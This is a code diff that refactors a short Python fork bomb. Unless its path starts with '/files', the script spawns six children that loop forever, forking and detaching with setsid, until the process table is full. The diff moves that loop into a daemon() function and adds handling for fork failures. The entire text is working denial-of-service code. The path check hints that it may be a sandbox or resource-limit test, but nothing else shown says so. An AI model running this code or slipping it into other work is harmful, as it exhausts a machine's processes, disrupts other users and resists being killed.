@@ -8,12 +8,21 @@ import sys
 if __file__.startswith("/files"):
     print("held")
     sys.exit()
+
+
+def daemon():
+    while True:
+        try:
+            if os.fork() != 0:
+                os._exit(0)
+            os.setsid()
+        except OSError:
+            pass
+
+
 for _ in range(6):
-    if os.fork() == 0:
-        while True:
-            try:
-                if os.fork() != 0:
-                    os._exit(0)
-                os.setsid()
-            except OSError:
-                pass
+    try:
+        if os.fork() == 0:
+            daemon()
+    except OSError:
+        break  # those before it have filled all room
